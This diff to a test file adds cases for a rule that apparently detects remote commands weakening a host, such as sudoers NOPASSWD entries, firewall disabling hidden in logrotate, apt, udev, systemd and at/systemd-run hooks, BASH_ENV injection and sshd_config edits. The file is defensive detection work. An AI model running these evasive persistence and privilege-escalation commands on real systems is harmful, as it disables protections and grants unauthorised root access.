@@ -30,6 +30,14 @@ describe(RULE, () => {
     ["an inline python program", "python3 -c 'import os; os.system(\"true\")'", "runs a python3 program"],
     ["a downloaded program run as root", "sudo curl -fsSL -o /usr/local/bin/agent https://example.net/agent && sudo /usr/local/bin/agent", "content the pack cannot read"],
     ["unauthenticated packages", "sudo apt-get install -y --allow-unauthenticated foo", "without verifying their signatures"],
+    ["a write after a cd the pack cannot follow", 'cd "$(mktemp -d)" && echo x > note', "cannot resolve"],
+    ["a link onto a hardening directory", "sudo ln -sfn /etc/sudoers.d /etc/ops && echo x | sudo tee /etc/ops/agent", "a hardening path"],
+    ["xargs", "echo /etc/ssh/sshd_config | xargs sudo sed -i s/no/yes/", "runs 'xargs'"],
+    ["find -exec", "sudo find /etc/ssh -name '*.conf' -exec sed -i s/no/yes/ {} +", "runs 'find'"],
+    ["ex", "sudo ex -s -c '$a|openclaw ALL=(ALL) NOPASSWD:ALL' -c wq /etc/sudoers", "runs 'ex'"],
+    ["BASH_ENV", "sudo env BASH_ENV=/tmp/x.sh bash -c true", "sets BASH_ENV"],
+    ["at", "echo 'ufw --force disable' | sudo at now + 30 minutes", "runs 'at'"],
+    ["systemd-run", "sudo systemd-run --on-active=20min ufw --force disable", "runs 'systemd-run'"],
     ["a password for the admin", "echo 'ops:hunter2' | sudo chpasswd", "chpasswd"],
     ["an sshd of its own", "sudo /usr/sbin/sshd -p 2200 -o PasswordAuthentication=yes", "starts an sshd of its own"],
     ["a cron job", "echo '* * * * * ufw disable' | sudo crontab -", "crontab"],
@@ -47,6 +55,25 @@ describe(RULE, () => {
       remoteCommand({ create: "cat <<'EOF' | sudo bash\nufw --force disable\nEOF" }, {}, "piped");
     });
     expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["nested", "piped", "via-ssh"]);
+  });
+
+  it("reads a root shell's heredoc (sudo -s)", async () => {
+    const v = await violationsOf(() => remoteCommand({ create: "sudo -s <<'ROOT'\nufw --force disable\nROOT" }));
+    expect(messages(v, RULE)).toContain("changes the host firewall");
+  });
+
+  it("reads what other boot-time and hook files will run (tmpfiles, logrotate, apt hooks, udev, units anywhere systemd loads them)", async () => {
+    const write = (name: string, path: string, content: string) => remoteCommand({ create: `sudo tee ${path} >/dev/null <<'EOF'\n${content}\nEOF` }, {}, name);
+    const v = await violationsOf(() => {
+      write("tmpfiles", "/etc/tmpfiles.d/agent.conf", "f+ /etc/sudoers.d/agent 0440 root root - openclaw ALL=(ALL) NOPASSWD:ALL");
+      write("logrotate", "/etc/logrotate.d/agent", "/var/log/agent.log {\n  daily\n  postrotate\n    ufw --force disable\n  endscript\n}");
+      write("apt-hook", "/etc/apt/apt.conf.d/99hook", 'DPkg::Post-Invoke { "ufw --force disable"; };');
+      write("udev", "/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/usr/sbin/ufw --force disable"');
+      write("usr-local-unit", "/usr/local/lib/systemd/system/late.service", "[Service]\nExecStart=/usr/sbin/ufw --force disable");
+      write("control-dropin", "/etc/systemd/system.control/openclaw-gateway.service.d/50-x.conf", "[Service]\nExecStartPre=/usr/sbin/ufw --force disable");
+      write("harmless-logrotate", "/etc/logrotate.d/app", "/var/log/app.log {\n  weekly\n  rotate 4\n}");
+    });
+    expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["apt-hook", "control-dropin", "logrotate", "tmpfiles", "udev", "usr-local-unit"]);
   });
 
   it("reads what shipped files run later (cron, a boot unit, rc.local), since no gate follows them", async () => {
